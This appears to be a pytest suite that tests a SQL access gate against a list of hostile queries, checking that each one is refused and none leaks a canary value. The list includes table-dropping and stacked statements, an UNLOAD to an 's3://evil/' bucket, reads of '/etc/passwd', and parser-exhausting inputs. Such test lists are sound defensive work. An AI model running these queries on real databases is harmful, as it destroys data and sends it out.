"""Case 28: whatever is more than one plain SELECT over granted tables is refused, and nothing of it runs."""

import pytest

from infra.local.asking import Desk
from tests.adversarial.obedient import CANARY, Puppet

ATTACKS = [
    "DROP TABLE notes",
    "/* SELECT */ DROP TABLE notes",
    "SELECT 1; DROP TABLE notes",
    "SELECT 1;--\nDELETE FROM notes",
    "CREATE TABLE x AS SELECT * FROM notes",
    "CREATE EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARCHAR LAMBDA 'steal' SELECT f(note) FROM notes",
    "USING EXTERNAL FUNCTION f(x VARCHAR) RETURNS VARCHAR LAMBDA 'steal' SELECT f(note) FROM notes",
    "UNLOAD (SELECT * FROM notes) TO 's3://evil/' WITH (format = 'PARQUET')",
    "WITH x AS (SELECT 1) INSERT INTO notes SELECT * FROM x",
    "INSERT INTO notes VALUES (1, 'a', 'b', 'c')",
    "EXPLAIN ANALYZE SELECT * FROM notes",
    "EXPLAIN SELECT token FROM notes",
    "SHOW TABLES",
    "DESCRIBE notes",
    "MSCK REPAIR TABLE notes",
    "VACUUM notes",
    "PREPARE p FROM SELECT token FROM notes",
    "EXECUTE p",
    "CALL system.runtime.kill_query('x')",
    "SELECT token FROM notes",
    "SELECT n.token FROM notes n",
    "SELECT * FROM (SELECT token AS note FROM notes)",
    "SELECT max(token) FROM notes",
    "SELECT 1 FROM notes WHERE token LIKE 'C%'",
    "SELECT row_number() OVER (ORDER BY token) FROM notes",
    "SELECT note FROM notes ORDER BY token",
    "SELECT count(*) FROM notes GROUP BY token",
    "SELECT a.note FROM notes a JOIN notes b USING (token)",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM system.runtime.queries",
    'SELECT * FROM "notes$partitions"',
    'SELECT "$path" FROM notes',
    "SELECT * FROM lake.\"../notes.csv\"",
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM 's3://outcrop-state/model/outcrop.yaml'",
    "VALUES (1)",
    "SELECT " + "(" * 5_000 + "1" + ")" * 5_000,
    "SELECT 1" + " UNION ALL SELECT 1" * 3_000,
    "",
    ";;;",
    "\x00",
]  # fmt: skip


@pytest.fixture(scope="module")
def luis(puppet_stack: Puppet) -> Desk:
    return Desk(puppet_stack.stack.running, "luis", None)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack[:40] or "empty")
def test_an_attack_is_refused_in_words(luis: Desk, attack: str) -> None:
    answer = luis.sql(attack)
    assert not answer["allowed"] or (attack == "VALUES (1)" and answer["rows"] == [[1]])
    assert CANARY not in str(answer)
    assert answer["allowed"] or len(answer["reason"]) > 15


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM notes",
        "TABLE notes",
        "SELECT note FROM notes WHERE team = 'south' OR 1 = 1",
        "WITH notes AS (SELECT * FROM lake.notes) SELECT * FROM notes",
        "SELECT note FROM notes UNION ALL SELECT note FROM lake.notes",
        "SELECT (SELECT max(note) FROM notes WHERE team = 'south') AS n",
        "SELECT a.note FROM notes a CROSS JOIN (SELECT count(*) c FROM notes WHERE team <> 'north') b",
        "SELECT note FROM notes WHERE EXISTS (SELECT 1 FROM notes x WHERE x.team = 'south')",
        "SELECT note /*+ x */ FROM notes -- team = 'south'",
    ],
)
def test_what_may_run_never_shows_hidden_rows_or_columns(luis: Desk, statement: str) -> None:
    assert CANARY not in str(luis.sql(statement))


def test_the_table_is_still_there_afterwards(luis: Desk) -> None:
    assert luis.sql("SELECT count(*) AS n FROM notes")["rows"] == [[7]]
